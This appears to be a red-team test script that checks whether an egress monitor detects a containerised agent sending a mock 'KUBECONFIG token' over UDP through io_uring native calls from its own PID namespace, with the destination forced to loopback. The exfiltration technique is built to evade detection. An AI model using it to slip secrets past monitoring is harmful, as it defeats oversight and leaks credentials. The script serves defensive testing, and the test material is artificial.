"""Round 4: the CONTAINERISED agent sends UDP to a new destination through io_uring (native code in it).

Every earlier egress variant attacked the host agent; this one is the agent
in its own PID namespace, whose pids the kernel reports differently.
"""

from __future__ import annotations

import socket
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "ns"
HELD_OUT = True
ROUND = 4
EXPECT = ("L4",)


def run(args: dict[str, Any]) -> None:
    ip = rt.loopback(args["dest"]["ip"])
    port = int(args["dest"]["port"])
    lib = rt.native(args)
    buf = b"KUBECONFIG token h7redteam round4 from the container\n" * 4
    t = rt.now()
    n = int(lib.rt_uring_egress(socket.AF_INET, ip.encode(), port, socket.SOCK_DGRAM, buf, len(buf), 0))
    rt.report(t, n == len(buf), f"io_uring CONNECT+SEND UDP {ip}:{port} from the namespaced agent: {n}")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
